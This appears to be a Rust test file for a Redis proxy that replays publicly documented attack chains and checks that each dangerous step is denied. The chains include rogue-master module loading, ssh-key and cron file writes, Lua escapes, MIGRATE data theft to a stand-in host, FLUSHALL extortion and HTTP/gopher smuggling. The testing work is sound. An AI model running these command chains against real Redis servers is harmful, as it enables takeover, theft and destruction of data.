//! Every known attack on an open Redis, command by command, through the default policy, before a server that has been
//! told to trust whoever is local: behind a proxy on its own host everybody is. The attacker goes on whatever is
//! answered; no dangerous command of its ever reaches the server, in whatever wrapping it comes.
//!
//! The chains are those of the families' public write-ups (named at each); payloads are stand-ins.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

mod support;

use ravelin::policy::scripts::ScriptDigest;
use std::{collections::BTreeSet, fs, net::TcpStream};
use support::{
    client::{Client, greeted},
    process::{PATIENCE, Proxy, program},
    redis::{Redis, Release},
    setup::{Service, Setup},
    wire::{Reply, encode},
};

/// One step of an attack: a command line, and if it is dangerous the rule that stops it.
type Step = (&'static str, Option<&'static str>);

const REPLICATION: Option<&str> = Some("preset:hardened/replication");
const CONFIGURATION: Option<&str> = Some("preset:hardened/configuration");
const CODE: Option<&str> = Some("preset:hardened/code-loading");
const SCRIPTING: Option<&str> = Some("preset:hardened/scripting");
const CONTROL: Option<&str> = Some("preset:hardened/server-control");
const UNKNOWN: Option<&str> = Some("builtin/unknown-command");
const DESTRUCTION: Option<&str> = Some("preset:hardened/destruction");
const AVAILABILITY: Option<&str> = Some("preset:hardened/availability");
const SERIALISED: Option<&str> = Some("preset:hardened/serialised-values");
const CLIENTS: Option<&str> = Some("preset:hardened/other-clients");
const RECONNAISSANCE: Option<&str> = Some("preset:hardened/reconnaissance");
const ACCESS: Option<&str> = Some("preset:hardened/access-control");
const AUTHENTICATION: Option<&str> = Some("builtin/authentication");

/// Words hold no blanks, so that each chain can also be sent as lines.
const CHAINS: &[(&str, &[Step])] = &[
    (
        "rogue master (redis-rce and its kin)",
        &[
            ("SLAVEOF 203.0.113.9 21000", REPLICATION),
            ("CONFIG SET dir /tmp", CONFIGURATION),
            ("CONFIG SET dbfilename exp.so", CONFIGURATION),
            ("PSYNC ? -1", REPLICATION),
            ("MODULE LOAD /tmp/exp.so", CODE),
            ("SLAVEOF NO ONE", REPLICATION),
            ("system.exec id", UNKNOWN),
        ],
    ),
    (
        "the same by the newer name",
        &[
            ("REPLICAOF 203.0.113.9 21000", REPLICATION),
            ("CONFIG SET dir /tmp dbfilename exp.so", CONFIGURATION),
            ("MODULE LOADEX /tmp/exp.so ARGS x", CODE),
            ("REPLICAOF NO ONE", REPLICATION),
            ("system.rev 203.0.113.9 4444", UNKNOWN),
        ],
    ),
    (
        "HeadCrab (Aqua 2023, 2.0 of 2024)",
        &[
            ("SLAVEOF 203.0.113.9 6379", REPLICATION),
            ("MODULE LOAD /tmp/x.so", CODE),
            ("rdsa x", UNKNOWN),
            ("rdss x", UNKNOWN),
            ("MGET c2 payload", None),
            ("CONFIG REWRITE", CONFIGURATION),
        ],
    ),
    (
        "P2PInfect (Unit 42, Cado 2023)",
        &[
            ("EVAL local(io_l)=package.loadlib('liblua5.1.so.0','luaopen_io') 0", SCRIPTING),
            ("SLAVEOF 203.0.113.9 60100", REPLICATION),
            ("CONFIG SET dir /tmp", CONFIGURATION),
            ("CONFIG SET dbfilename exp.so", CONFIGURATION),
            ("MODULE LOAD /tmp/exp.so", CODE),
            ("system.exec id", UNKNOWN),
            ("MODULE UNLOAD system", CODE),
            ("SLAVEOF NO ONE", REPLICATION),
        ],
    ),
    (
        "P2PInfect's other way: keys for ssh",
        &[
            ("SET x ssh-ed25519-AAAA", None),
            ("CONFIG SET dir /root/.ssh", CONFIGURATION),
            ("CONFIG SET dbfilename authorized_keys", CONFIGURATION),
            ("BGSAVE", CONTROL),
        ],
    ),
    (
        "Redigo (Aqua 2022)",
        &[
            ("INFO server", None),
            ("SLAVEOF 203.0.113.9 21000", REPLICATION),
            ("REPLCONF listening-port 6379", REPLICATION),
            ("PSYNC ? -1", REPLICATION),
            ("MODULE LOAD /tmp/red2.so", CODE),
            ("EVAL package.loadlib('x','y') 0", SCRIPTING),
            ("SLAVEOF NO ONE", REPLICATION),
        ],
    ),
    (
        "SkidMap (Trustwave 2023)",
        &[
            ("SET Backup1 */1****curl", None),
            ("CONFIG SET dir /var/spool/cron", CONFIGURATION),
            ("CONFIG SET dbfilename root", CONFIGURATION),
            ("CONFIG SET stop-writes-on-bgsave-error no", CONFIGURATION),
            ("SAVE", CONTROL),
        ],
    ),
    (
        "RedisRaider (Datadog 2025)",
        &[
            ("INFO", None),
            ("SET t */1****root/bin/bash EX 120", None),
            ("CONFIG SET dir /etc/cron.d", CONFIGURATION),
            ("CONFIG SET dbfilename apache", CONFIGURATION),
            ("BGSAVE", CONTROL),
        ],
    ),
    (
        "Migo (Cado 2024)",
        &[
            ("CONFIG SET protected-mode no", CONFIGURATION),
            ("CONFIG SET replica-read-only no", CONFIGURATION),
            ("CONFIG SET aof-rewrite-incremental-fsync no", CONFIGURATION),
            ("CONFIG SET rdb-save-incremental-fsync no", CONFIGURATION),
            ("SET mimipenguin ssh-rsa-AAAA", None),
            ("CONFIG SET dir /root/.ssh", CONFIGURATION),
            ("SAVE", CONTROL),
        ],
    ),
    (
        "RediShell (CVE-2025-49844) and the other escapes from Lua",
        &[
            ("EVAL collectgarbage() 0", SCRIPTING),
            ("EVAL_RO collectgarbage() 0", SCRIPTING),
            ("SCRIPT LOAD return(1)", SCRIPTING),
            ("EVALSHA e0e1f9fabfc9d4800c877a703b823ac0578ff8db 0", SCRIPTING),
            ("EVALSHA_RO e0e1f9fabfc9d4800c877a703b823ac0578ff8db 0", SCRIPTING),
            ("FUNCTION LOAD #!lua", SCRIPTING),
            ("FUNCTION RESTORE x", SCRIPTING),
            ("FCALL f 0", SCRIPTING),
            ("FCALL_RO f 0", SCRIPTING),
        ],
    ),
    (
        "guessing the password, then carrying the data away",
        &[
            ("AUTH password", AUTHENTICATION),
            ("AUTH default 123456", AUTHENTICATION),
            ("CONFIG GET *", CONFIGURATION),
            ("CONFIG GET require*", CONFIGURATION),
            ("ACL LIST", ACCESS),
            ("KEYS *", AVAILABILITY),
            ("DUMP treasure", SERIALISED),
            ("MIGRATE 203.0.113.9 6379 treasure 0 1000 COPY", SERIALISED),
            ("SYNC", REPLICATION),
            ("MONITOR", CLIENTS),
            ("SLOWLOG GET 100", RECONNAISSANCE),
        ],
    ),
    (
        "extortion: everything is gone, and a note is left",
        &[
            ("FLUSHALL", DESTRUCTION),
            ("FLUSHDB", DESTRUCTION),
            ("SWAPDB 0 1", DESTRUCTION),
            ("SET note pay", None),
            ("CONFIG SET requirepass mine", CONFIGURATION),
            ("ACL SETUSER default off", ACCESS),
            ("CLIENT KILL TYPE normal", CLIENTS),
            ("SHUTDOWN NOSAVE", CONTROL),
        ],
    ),
    (
        "crafted values and the server's own tools (trust inversion: all of it is `local` here)",
        &[
            ("RESTORE x 0 payload REPLACE", SERIALISED),
            ("RESTORE-ASKING x 0 payload", SERIALISED),
            ("DEBUG JMAP", CONTROL),
            ("DEBUG SLEEP 5", CONTROL),
            ("PFDEBUG GETREG x", CONTROL),
            ("CONFIG SET dir /tmp", CONFIGURATION),
            ("CONFIG SET enable-debug-command yes", CONFIGURATION),
            ("MODULE LOAD /tmp/x.so", CODE),
            ("CLIENT TRACKING on BCAST", CLIENTS),
            ("FAILOVER", REPLICATION),
            ("CLUSTER MEET 203.0.113.9 6379", CONTROL),
        ],
    ),
];

/// What may reach the server: the harmless steps, what the proxy says itself, and what this test asks.
const HARMLESS: &[&str] = &[
    "ping",
    "info",
    "set",
    "mget",
    "multi",
    "exec",
    "discard",
    "hello",
    "auth",
    "client",
    "client|setname",
    "get",
    "config",
    "config|get",
    "dbsize",
    "role",
];

const WRAPPINGS: [&str; 8] =
    ["upper case", "lower case", "mixed case", "pipeline", "transaction", "script", "lines", "RESP3"];

struct Stand {
    redis: Redis,
    proxy: Proxy,
}

impl Stand {
    fn new() -> Self {
        Self::under("")
    }

    /// With further keys of the role.
    fn under(keys: &str) -> Self {
        // Before 7.0 everybody is trusted anyway.
        let trusting = ["enable-protected-configs yes", "enable-debug-command yes", "enable-module-command yes"];
        let redis = Redis::with(if Release::of_server().since(7, 0) { &trusting } else { &[] }, None);
        let proxy = Proxy::with(&Setup::before(&redis).with(|setup| {
            setup.roles = format!("[[role]]\nname = \"app\"\nmatch = [{{ cn = \"app\" }}]\n{keys}\n").leak();
            setup.services.push(Service { listen: ", inline = true", ..Service::before("lines", &redis) });
        }));
        redis.connect().call(&["SET", "treasure", "safe"]).expect_ok();
        Self { redis, proxy }
    }

    fn client(&self, service: usize) -> Client {
        let socket = TcpStream::connect(self.proxy.addresses[service]).unwrap();
        socket.set_nodelay(true).unwrap();
        socket.set_read_timeout(Some(PATIENCE)).unwrap();
        let tls = self.proxy.tls(Some(&self.proxy.pki.client("app").unwrap()), rustls::ALL_VERSIONS);
        greeted(self.proxy.shake_with(&tls, socket).unwrap()).unwrap()
    }

    /// What an attack would have changed; asked of the server itself.
    fn state(&self) -> Vec<Reply> {
        let mut control = self.redis.connect();
        let role = control.call(&["INFO", "replication"]).text();
        let mut state = vec![Reply::Status(role.lines().find(|line| line.starts_with("role:")).unwrap().to_owned())];
        for name in ["dir", "dbfilename", "requirepass", "protected-mode", "save", "stop-writes-on-bgsave-error"] {
            state.push(control.call(&["CONFIG", "GET", name]));
        }
        state.push(control.call(&["GET", "treasure"]));
        state
    }

    fn files(&self) -> BTreeSet<String> {
        let listed = fs::read_dir(self.redis.dir()).unwrap();
        listed.map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned()).collect()
    }
}

/// `CoNfIg sEt` …: every other letter of the name and of what follows.
fn mixed(line: &str) -> String {
    let flip = |(at, c): (usize, char)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
    line.chars().enumerate().map(flip).collect()
}

fn words(line: &str) -> Vec<&str> {
    line.split(' ').collect()
}

fn expect_denied(reply: &Reply, what: &str) {
    let text = reply.error().unwrap_or_else(|| panic!("{what}: {reply:?}"));
    assert!(text.starts_with("NOPERM "), "{what}: {text}");
}

/// Redis' own commands by way of Lua.
fn script(chain: &[Step]) -> String {
    let call = |line: &str| format!("redis.pcall('{}')\n", line.replace('\'', "").replace(' ', "','"));
    chain.iter().map(|(line, _)| call(line)).collect()
}

/// Plays a chain in one wrapping, to its end whatever is answered; returns the client's address.
fn play(stand: &Stand, chain: &[Step], wrapping: &str) -> String {
    let mut client = stand.client(usize::from(wrapping == "lines"));
    let address = client.stream().sock.local_addr().unwrap().to_string();
    if wrapping == "script" {
        // The script itself is the first dangerous step.
        let body = script(chain);
        for name in ["EVAL", "eval", "EVAL_RO"] {
            expect_denied(&client.call(&[name, &body, "0"]), name);
        }
        expect_denied(&client.call(&["SCRIPT", "LOAD", &body]), "SCRIPT LOAD");
        return address;
    }
    if wrapping == "RESP3" {
        client.call(&["HELLO", "3"]);
    }
    if wrapping == "transaction" {
        client.call(&["MULTI"]).expect_ok();
    }
    let spelled: Vec<String> = chain
        .iter()
        .map(|(line, _)| match wrapping {
            "lower case" => line.to_lowercase(),
            "mixed case" => mixed(line),
            _ => (*line).to_owned(),
        })
        .collect();
    let bytes = |line: &String| match wrapping {
        "lines" => format!("{}\r\n", line.replace(['\'', '"'], "")).into_bytes(),
        _ => encode(&words(line)),
    };
    let mut replies = Vec::new();
    if wrapping == "pipeline" || wrapping == "lines" {
        client.send_raw(&spelled.iter().flat_map(bytes).collect::<Vec<_>>());
        replies.extend(spelled.iter().map(|_| client.reply()));
    } else {
        for line in &spelled {
            client.send_raw(&bytes(line));
            replies.push(client.reply());
        }
    }
    for ((line, rule), reply) in chain.iter().zip(&replies) {
        if rule.is_some() {
            expect_denied(reply, &format!("{line} ({wrapping})"));
        } else {
            assert_eq!(reply.error(), None, "{line} ({wrapping})");
        }
    }
    if wrapping == "transaction" {
        let exec = client.call(&["EXEC"]);
        assert!(exec.error().is_some_and(|text| text.starts_with("EXECABORT ")), "{exec:?}");
    }
    assert_eq!(client.call(&["PING"]).text(), "PONG", "a denial ends nothing");
    address
}

#[test]
fn every_known_attack_is_stopped_at_its_first_dangerous_step_in_every_wrapping() {
    let stand = Stand::new();
    let (before, files) = (stand.state(), stand.files());
    // Connections that have been looked at: a port may come again.
    let mut seen: Vec<String> = Vec::new();
    for (name, chain) in CHAINS {
        for wrapping in WRAPPINGS {
            if wrapping == "RESP3" && stand.redis.protocols().len() == 1 {
                continue;
            }
            let address = play(&stand, chain, wrapping);
            let dangerous: Vec<&str> = chain.iter().filter_map(|(_, rule)| *rule).collect();
            // Each denied step has its record with the rule, in order.
            let (conn, denied) = stand.proxy.await_that("the records of a chain", |proxy| {
                let ended = proxy.records("connection_close").into_iter().filter(|record| record["src"] == address[..]);
                let mut ended = ended.filter_map(|record| record["conn"].as_str().map(str::to_owned));
                let conn = ended.find(|conn| !seen.contains(conn))?;
                let of_chain = proxy.records("command").into_iter().filter(|record| record["conn"] == conn[..]);
                let rules: Vec<String> = of_chain.filter_map(|each| each["rule"].as_str().map(str::to_owned)).collect();
                Some((conn, rules))
            });
            seen.push(conn);
            if wrapping != "script" {
                assert_eq!(denied, dangerous, "{name} ({wrapping})");
            }
        }
        assert_eq!(stand.state(), before, "{name}");
        assert_eq!(stand.files(), files, "{name} left a file");
    }
    let reached: Vec<String> = stand.redis.calls().into_keys().filter(|name| !HARMLESS.contains(&&name[..])).collect();
    assert_eq!(reached, Vec::<String>::new(), "reached the server");
}

/// What `check` says of the scripts of a stand's role.
fn warning(stand: &Stand) -> Option<String> {
    let output = std::process::Command::new(program())
        .args(["check", "--offline", "-c"])
        .arg(stand.proxy.path("ravelin.toml"))
        .output()
        .unwrap();
    assert!(output.status.success());
    let text = String::from_utf8(output.stdout).unwrap() + &String::from_utf8(output.stderr).unwrap();
    text.lines().find(|line| line.contains("scripts can run any command")).map(str::to_owned)
}

/// A role that may run what is pinned: the attacker's script is not, in whatever form it is brought, and its commands are
/// as closed outside of scripts as they are to everybody.
#[test]
fn no_chain_gets_further_where_scripts_are_pinned() {
    let dir = tempfile::Builder::new().prefix("attacks-").tempdir().unwrap();
    let pins = dir.path().join("scripts.sha1");
    let ours = "return redis.call('GET', KEYS[1])";
    fs::write(&pins, format!("{} ours.lua\n", ScriptDigest::of(ours.as_bytes()))).unwrap();
    let stand = Stand::under(&format!("scripts = {{ pinned = \"{}\" }}", pins.display()));
    assert_eq!(warning(&stand), None);
    let (before, files) = (stand.state(), stand.files());
    let mut client = stand.client(0);
    let heard = |stand: &Stand| {
        let calls = stand.redis.calls().into_keys();
        calls.filter(|name| !HARMLESS.contains(&&name[..]) && name != "eval").collect::<Vec<_>>()
    };
    assert_eq!(client.call(&["EVAL", ours, "1", "treasure"]).text(), "safe", "this role does run scripts");
    for (name, chain) in CHAINS {
        let body = script(chain);
        // Behind what is pinned, before it, and in its arguments: none of it is what is pinned.
        for body in [&body, &format!("{ours}\n{body}"), &format!("{body}\n{ours}")] {
            let digest = ScriptDigest::of(body.as_bytes()).to_string();
            for words in [
                &["EVAL", body, "0"][..],
                &["eVaL", body, "0"],
                &["EVAL_RO", body, "0"],
                &["SCRIPT", "LOAD", body],
                &["EVALSHA", &digest, "0"],
                &["EVALSHA_RO", &digest, "0"],
                &["FUNCTION", "LOAD", body],
                &["FCALL", body, "0"],
            ] {
                expect_denied(&client.call(words), &format!("{name}: {}", words[0]));
            }
        }
        assert_eq!(client.call(&["EVAL", ours, "1", "treasure", &body]).text(), "safe", "an argument is no code");
        for (line, rule) in *chain {
            if rule.is_some() {
                expect_denied(&client.call(&words(line)), line);
            }
        }
    }
    assert_eq!((stand.state(), stand.files()), (before, files));
    assert_eq!(heard(&stand), Vec::<String>::new(), "reached the server");
    // One call for each EVAL of ours.
    assert_eq!(stand.redis.calls_of("eval"), 1 + CHAINS.len() as u64);
}

/// A role that may run what Redis keeps from writing: it can read, and change nothing. (Reading is not stopped, nor what
/// breaks out of Lua: `check` warns of both.)
#[test]
fn no_chain_changes_anything_where_scripts_are_read_only() {
    let stand = Stand::under("scripts = \"read-only\"");
    let warned = warning(&stand).expect("EVAL_RO is open");
    assert!(warned.contains("EVAL_RO") && !warned.contains("EVAL,"), "{warned}");
    let (before, files) = (stand.state(), stand.files());
    let mut client = stand.client(0);
    for (name, chain) in CHAINS {
        let body = script(chain);
        for words in [&["EVAL", &body, "0"][..], &["SCRIPT", "LOAD", &body], &["FUNCTION", "LOAD", &body]] {
            expect_denied(&client.call(words), &format!("{name}: {}", words[0]));
        }
        // It runs, and each step of it is refused by Redis itself (before 7.0 there is no such command).
        let ran = client.call(&["EVAL_RO", &body, "0"]);
        assert!(!ran.error().is_some_and(|text| text.starts_with("NOPERM ")), "{name}: {ran:?}");
        for (line, rule) in chain.iter().filter(|(line, _)| !line.contains("_RO ")) {
            if rule.is_some() {
                expect_denied(&client.call(&words(line)), line);
            }
        }
        assert_eq!((stand.state(), stand.files()), (before.clone(), files.clone()), "{name}");
    }
    let mut stolen = client.call(&["EVAL_RO", "return redis.call('GET', 'treasure')", "0"]);
    if !Release::of_server().since(7, 0) {
        stolen = stand.redis.connect().call(&["GET", "treasure"]);
    }
    assert_eq!(stolen.text(), "safe", "nothing that was written was taken away either");
}

/// A role that may run anything: `check` says loudly what that means, and it is true.
#[test]
fn where_any_script_may_run_the_denylist_is_walked_around_as_check_says() {
    let stand = Stand::under("scripts = \"allow\"");
    let warned = warning(&stand).expect("a loud warning");
    assert!(warned.contains("the denylist can be walked around by EVAL, "), "{warned}");
    let (_, chain) = CHAINS.iter().find(|(name, _)| name.starts_with("extortion")).unwrap();
    // The last steps would take the server away from under this test.
    let chain = &chain[..4];
    let mut client = stand.client(0);
    for (line, rule) in chain {
        if rule.is_some() {
            expect_denied(&client.call(&words(line)), line);
        }
    }
    assert_eq!(stand.redis.connect().call(&["GET", "treasure"]).text(), "safe");
    let ran = client.call(&["EVAL", &script(chain), "0"]);
    assert_eq!(ran.error(), None);
    let mut control = stand.redis.connect();
    assert_eq!(control.call(&["GET", "treasure"]), Reply::Null);
    assert_eq!(control.call(&["GET", "note"]).text(), "pay");
    // The record names the command that was let through, and no other: what a script does is not seen.
    stand.proxy.await_record("command", |record| record["cmd"] == "EVAL" && record["verdict"] == "allow");
    assert!(stand.proxy.records("command").iter().all(|each| each["cmd"] != "FLUSHALL" || each["verdict"] == "deny"));
}

/// A browser or a server that is made to send HTTP: no line of it is a command, with a certificate or without one.
#[test]
fn requests_of_other_protocols_run_nothing() {
    let stand = Stand::new();
    let before = stand.state();
    let http = b"POST / HTTP/1.1\r\nHost: localhost:6379\r\nContent-Length: 60\r\n\r\nSLAVEOF 203.0.113.9 21000\r\n\
                 CONFIG SET dir /tmp\r\nFLUSHALL\r\n";
    let gopher = b"\r\n*1\r\n$8\r\nFLUSHALL\r\nquit\r\n";
    for service in 0..2 {
        for payload in [&http[..], gopher] {
            let mut client = stand.client(service);
            client.send_raw(payload);
            client.stream().conn.send_close_notify();
            std::io::Write::flush(client.stream()).unwrap();
            let said = String::from_utf8_lossy(&client.rest()).into_owned();
            for line in said.lines() {
                assert!(
                    line.starts_with("-NOPERM ") || line.starts_with("-ERR Protocol error") || line == "+OK",
                    "{said:?}"
                );
            }
        }
        let mut plain = TcpStream::connect(stand.proxy.addresses[service]).unwrap();
        plain.set_read_timeout(Some(PATIENCE)).unwrap();
        std::io::Write::write_all(&mut plain, http).unwrap();
        let mut said = Vec::new();
        // Closed, or reset for what was not read.
        let _ = std::io::Read::read_to_end(&mut plain, &mut said);
        assert!(!said.starts_with(b"+") && !said.starts_with(b"-"), "{said:?}");
    }
    assert_eq!(stand.state(), before);
    for name in ["slaveof", "replicaof", "flushall"] {
        assert_eq!(stand.redis.calls_of(name), 0, "{name}");
    }
}
